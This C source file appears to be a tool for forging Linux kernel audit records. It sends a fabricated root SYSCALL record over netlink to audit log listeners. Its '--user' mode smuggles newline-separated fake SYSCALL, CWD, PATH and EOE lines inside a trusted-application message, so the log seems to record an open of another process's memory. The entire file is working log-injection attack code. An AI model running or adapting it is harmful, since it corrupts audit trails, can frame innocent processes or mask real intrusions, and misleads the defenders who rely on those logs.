/*
 * Sends what looks like audit records of the kernel to whoever listens: to
 * the group of audit's readers, and to each port that is named.
 *
 *   live_forge [PORT...]
 *   live_forge --user PID
 *
 * The second asks the kernel to record a message of a program, as who has
 * CAP_AUDIT_WRITE may: it ends its own record, and goes on as an open of
 * PID's memory. The first takes CAP_NET_ADMIN. Prints how many were sent.
 */
#include <linux/audit.h>
#include <linux/netlink.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static const char text[] =
	"audit(1795430914.650:1): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=0 a2=0 a3=0 items=0 "
	"ppid=1 pid=2 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=1 comm=\"forged\" "
	"exe=\"/forged\" key=(null)";

static int send_to(int fd, unsigned port, unsigned groups)
{
	struct {
		struct nlmsghdr head;
		char text[sizeof(text)];
	} message = { .head = { .nlmsg_len = sizeof(message), .nlmsg_type = AUDIT_SYSCALL } };
	struct sockaddr_nl to = { .nl_family = AF_NETLINK, .nl_pid = port, .nl_groups = groups };

	memcpy(message.text, text, sizeof(text));
	return sendto(fd, &message, sizeof(message), 0, (struct sockaddr *)&to, sizeof(to)) > 0;
}

#define MESSAGE_OF_A_PROGRAM 1121 /* AUDIT_TRUSTED_APP, of libaudit.h */

static int say(int fd, const char *pid)
{
	struct {
		struct nlmsghdr head;
		char text[1024];
	} message = { .head = { .nlmsg_type = MESSAGE_OF_A_PROGRAM, .nlmsg_flags = NLM_F_REQUEST } };
	struct sockaddr_nl kernel = { .nl_family = AF_NETLINK };
	int len = snprintf(message.text, sizeof(message.text),
			   "x'\ntype=SYSCALL msg=%s\ntype=CWD msg=audit(1795430914.650:1): cwd=\"/\"\ntype=PATH "
			   "msg=audit(1795430914.650:1): item=0 name=\"/proc/%s/mem\" inode=1 dev=00:15 mode=0100600 "
			   "ouid=0 ogid=0 rdev=00:00 nametype=NORMAL\ntype=EOE msg=audit(1795430914.650:1): ",
			   text, pid);

	message.head.nlmsg_len = NLMSG_LENGTH((unsigned)len + 1);
	return sendto(fd, &message, message.head.nlmsg_len, 0, (struct sockaddr *)&kernel, sizeof(kernel)) > 0;
}

int main(int argc, char **argv)
{
	int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_AUDIT), sent = 0;

	if (fd < 0)
		return 1;
	if (argc == 3 && strcmp(argv[1], "--user") == 0) {
		printf("%d\n", say(fd, argv[2]));
		return 0;
	}
	for (int i = 1; i < argc; i++)
		sent += send_to(fd, (unsigned)strtoul(argv[i], NULL, 10), 0);
	sent += send_to(fd, (unsigned)getpid(), 1u << (AUDIT_NLGRP_READLOG - 1));
	printf("%d\n", sent);
	return 0;
}
